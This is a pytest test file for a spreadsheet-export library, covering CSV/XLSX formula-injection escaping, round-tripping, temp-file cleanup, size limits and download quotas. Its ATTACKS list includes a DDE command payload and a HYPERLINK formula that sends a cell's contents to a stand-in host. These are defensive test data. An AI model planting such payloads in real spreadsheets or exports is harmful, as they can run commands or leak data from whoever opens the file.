"""Files of tables: harmless in any spreadsheet, read back as they were, nothing left behind."""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import tempfile
import threading
import tracemalloc
import zipfile
from collections.abc import AsyncIterator, Iterator, Sequence
from contextlib import contextmanager
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any
from uuid import uuid4
from xml.etree import ElementTree as ET

import pytest

from bailiwick_reports.api import spreadsheets
from bailiwick_reports.api.csv_injection import harmless
from bailiwick_reports.api.spreadsheets import (
    CsvFormat,
    Download,
    DownloadQuota,
    Kind,
    Row,
    spool,
)
from bailiwick_reports.domain.errors import ReportTooLarge
from bailiwick_testkit.waiting import until

ATTACKS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹣1+1",
    "−1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example?\"&A1,'a')",
    "   =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2060 \"'@SUM(1)",
)
HIDDEN = ("Smith;=1+1", "Smith\t=1+1", "Smith\r\n=1+1", "Smith | @SUM(1)", 'Smith;"=1+1";x')
PLAIN = ("", "Librería Sol", "a=b", "1-2", "Smith, Jones", "O'Neill", '"Quoted"', "ana@x.example")


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_begins_like_a_formula_is_text_afterwards(attack: str) -> None:
    text = harmless(attack)
    assert text.startswith("'")
    assert text.replace("'", "") == attack.replace("'", "")


@pytest.mark.parametrize("attack", HIDDEN)
@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_no_formula_begins_behind_another_programs_separator(attack: str, separator: str) -> None:
    for line in harmless(attack).splitlines():
        for cell in line.split(separator):
            assert cell.strip(' "')[:1] not in set("=+-@"), cell


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


async def pages_of(*pages: Sequence[Row]) -> AsyncIterator[Sequence[Row]]:
    for page in pages:
        yield page


async def written(kind: Kind, columns: Sequence[str], *pages: Sequence[Row]) -> bytes:
    spooled = await spool(kind, columns, pages_of(*pages))
    with spooled.file:
        data = spooled.file.read()
    assert len(data) == spooled.size
    return data


def cells_of(data: bytes) -> list[list[str]]:
    """Read a worksheet: numbers and dates as they are kept, texts behind `t:`."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        root = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - our own
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not list(root.iter(f"{space}f")), "a formula"
    rows = []
    for row in root.iter(f"{space}row"):
        cells = []
        for cell in row.iter(f"{space}c"):
            if cell.get("t") == "inlineStr":
                cells.append("t:" + "".join(part.text or "" for part in cell.iter(f"{space}t")))
            else:
                value = cell.find(f"{space}v")
                cells.append(value.text or "" if value is not None else "")
        rows.append(cells)
    return rows


async def test_csv_reads_back_as_it_was_written() -> None:
    data = await written(
        Kind.CSV,
        ("day", "name", "net", "orders", "nothing"),
        [[date(2026, 1, 31), 'Sol, "Luz" y Cía', Decimal("-12.3400"), -3, None]],
        [[date(1996, 7, 4), "two\nlines", Decimal("1E+3"), 0, ""]],
    )
    assert data.startswith(b"\xef\xbb\xbfday,name,net,orders,nothing\r\n")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1:] == [
        ["2026-01-31", 'Sol, "Luz" y Cía', "-12.3400", "-3", ""],
        ["1996-07-04", "two\nlines", "1000", "0", ""],
    ]


@pytest.mark.parametrize("attack", ATTACKS)
async def test_an_attack_reads_back_as_text_from_csv(attack: str) -> None:
    data = await written(Kind.CSV, ("name", "net"), [[attack, Decimal("-5.00")]])
    [_, row] = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert row == [harmless(attack), "-5.00"]


@pytest.mark.parametrize("attack", ATTACKS)
async def test_an_attack_is_a_text_in_a_worksheet_and_never_a_formula(attack: str) -> None:
    [header, row] = cells_of(await written(Kind.XLSX, ("name", "net"), [[attack, Decimal(-5)]]))
    assert header == ["t:name", "t:net"]
    assert row[0].startswith("t:")
    assert row[1] == "-5"


async def test_a_worksheet_keeps_numbers_and_dates_and_what_no_double_can_hold_as_text() -> None:
    exact = Decimal("12345678901234567.8901")
    row: Row = [date(2026, 1, 31), date(1852, 1, 1), Decimal("12.3400"), exact, 7, "7", None]
    [_, cells] = cells_of(await written(Kind.XLSX, ("a", "b", "c", "d", "e", "f", "g"), [row]))
    assert cells == ["46053", "t:1852-01-01", "12.34", f"t:{exact}", "7", "t:7"]


@contextmanager
def watched(monkeypatch: pytest.MonkeyPatch, folder: Path) -> Iterator[None]:
    """Hold that nothing is left in the folder of temporary files, nor open."""
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    yield
    gc.collect()  # what was left open warns now, and a warning is an error
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize("kind", Kind)
async def test_rows_that_fail_to_come_leave_nothing_behind(
    kind: Kind, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def failing() -> AsyncIterator[Sequence[Row]]:
        yield [["a"]]
        raise LookupError

    with watched(monkeypatch, tmp_path):
        with pytest.raises(LookupError):
            await spool(kind, ("name",), failing())
        await asyncio.sleep(0)


@pytest.mark.parametrize("kind", Kind)
async def test_a_cancelled_export_is_closed_once_its_thread_has_ended(
    kind: Kind, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun, go_on = threading.Event(), threading.Event()

    def hold(_: str) -> str:
        begun.set()
        go_on.wait(10)
        return "x"

    monkeypatch.setattr(spreadsheets, "harmless", hold)
    monkeypatch.setattr(spreadsheets._Xlsx, "_put", lambda *_: hold(""))
    with watched(monkeypatch, tmp_path):
        task = asyncio.create_task(spool(kind, ("name",), pages_of([["a"]])))
        await asyncio.to_thread(begun.wait, 10)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        go_on.set()

        async def is_empty() -> bool:
            return not await asyncio.to_thread(lambda: list(tmp_path.iterdir()))

        await until(is_empty)
        del task


@pytest.mark.parametrize("kind", Kind)
async def test_a_file_of_more_rows_than_it_may_have_is_given_up(kind: Kind) -> None:
    (await spool(kind, ("n",), pages_of([[1]], [[2], [3]]), most_rows=3)).file.close()
    with pytest.raises(ReportTooLarge, match="at most 2 rows"):
        await spool(kind, ("n",), pages_of([[1]], [[2], [3]]), most_rows=2)


@pytest.mark.parametrize(
    ("layout", "line"),
    [
        (CsvFormat(), '\'-Menos-,1234.50,2026-01-31,"a,b"'),
        (CsvFormat(separator=";", decimal_mark=","), "'-Menos-;1234,50;2026-01-31;a,b"),
        (CsvFormat(separator="\t"), "'-Menos-\t1234.50\t2026-01-31\ta,b"),
        (CsvFormat(separator="\t", decimal_mark=","), "'-Menos-\t1234,50\t2026-01-31\ta,b"),
        (CsvFormat(escapes=False), '-Menos-,1234.50,2026-01-31,"a,b"'),
    ],
)
async def test_a_csv_is_written_as_its_reader_reads_it(layout: CsvFormat, line: str) -> None:
    rows: list[Row] = [["-Menos-", Decimal("1234.50"), date(2026, 1, 31), "a,b"]]
    spooled = await spool(Kind.CSV, ("a", "b", "c", "d"), pages_of(rows), layout=layout)
    with spooled.file:
        assert spooled.file.read().decode("utf-8-sig").splitlines()[1] == line


@pytest.mark.parametrize("text", [*ATTACKS, *HIDDEN, *PLAIN])
async def test_raw_text_reads_back_letter_by_letter(text: str) -> None:
    layout = CsvFormat(escapes=False)
    spooled = await spool(Kind.CSV, ("note",), pages_of([[text]]), layout=layout)
    with spooled.file:
        read = csv.reader(io.StringIO(spooled.file.read().decode("utf-8-sig"), newline=""))
        assert list(read)[1:] == [[text] if text else [""]]


@pytest.mark.parametrize("kind", Kind)
async def test_many_rows_take_little_memory(kind: Kind) -> None:
    async def many() -> AsyncIterator[Sequence[Row]]:
        for page in range(20):
            yield [
                [f"customer {page} {number}", Decimal(number), "x" * 100] for number in range(1000)
            ]

    tracemalloc.start()
    try:
        spooled = await spool(kind, ("name", "net", "note"), many())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    spooled.file.close()
    assert peak < 4 * 1024 * 1024


class Client:
    """Takes an answer; `gone_after` so many messages it is not there any more."""

    def __init__(self, gone_after: int = 1_000_000) -> None:
        self.messages: list[dict[str, Any]] = []
        self._gone_after = gone_after

    async def send(self, message: Any) -> None:
        if len(self.messages) >= self._gone_after:
            raise ConnectionResetError
        self.messages.append(message)

    async def receive(self) -> Any:
        return {"type": "http.disconnect"}


async def test_a_download_comes_in_chunks_with_its_length_and_name() -> None:
    spooled = await spool(Kind.CSV, ("note",), pages_of([["x" * 1000]] * 200))
    client = Client()
    await Download(spooled, "sales-2026-01-31.csv")({}, client.receive, client.send)
    start, *chunks = client.messages
    headers = {name.decode(): value.decode() for name, value in start["headers"]}
    assert headers == {
        "content-type": "text/csv; charset=utf-8; header=present",
        "content-disposition": 'attachment; filename="sales-2026-01-31.csv"',
        "content-length": str(spooled.size),
        "cache-control": "no-store",
    }
    assert len(chunks) == 4
    assert [chunk["more_body"] for chunk in chunks] == [True, True, True, False]
    assert sum(len(chunk["body"]) for chunk in chunks) == spooled.size
    assert spooled.file.closed


@pytest.mark.parametrize("gone_after", [0, 1, 2])
async def test_a_client_that_goes_away_leaves_no_file_open(gone_after: int) -> None:
    spooled = await spool(Kind.CSV, ("note",), pages_of([["x" * 1000]] * 200))
    client = Client(gone_after)
    with pytest.raises(ConnectionResetError):
        await Download(spooled, "x.csv")({}, client.receive, client.send)
    assert spooled.file.closed


async def test_a_shelf_has_room_until_files_that_are_open_take_it_all() -> None:
    first = await spool(Kind.CSV, ("note",), pages_of([["x" * 1000]] * 20))
    second = await spool(Kind.CSV, ("note",), pages_of([["x" * 1000]] * 20))
    quota, owner = DownloadQuota(first.size + 1, first.size + 1), uuid4()
    assert quota.put(owner, first)
    assert quota.has_room(owner)
    assert not quota.has_room(owner, 2)
    assert not quota.put(uuid4(), second)
    first.file.close()
    assert quota.put(owner, second)
    second.file.close()


async def test_slow_clients_of_an_organization_leave_room_for_the_others() -> None:
    quota, slow, other = DownloadQuota(100_000, 50_000), uuid4(), uuid4()
    held = []
    # Written at the same time, each had room when it was begun.
    for _ in range(4):
        assert quota.has_room(slow)
        held.append(await spool(Kind.CSV, ("note",), pages_of([["x" * 1000]] * 20)))
    assert [quota.put(slow, one) for one in held] == [True, True, False, False]
    assert quota.has_room(other, held[0].size)
    held[0].file.close()
    assert quota.put(slow, held[2])
    for one in held:
        one.file.close()


@pytest.mark.parametrize("kind", Kind)
async def test_a_file_of_more_bytes_than_it_may_have_is_given_up(kind: Kind) -> None:
    rows = [["x" * 1000]] * 20
    with pytest.raises(ReportTooLarge):
        await spool(kind, ("note",), pages_of(rows, rows), most=30_000)
    (await spool(kind, ("note",), pages_of(rows), most=30_000)).file.close()


async def test_a_name_that_would_need_quoting_is_refused() -> None:
    spooled = await spool(Kind.CSV, ("note",), pages_of())
    with pytest.raises(ValueError, match="quoting"):
        Download(spooled, 'x".csv')
    assert spooled.file.closed
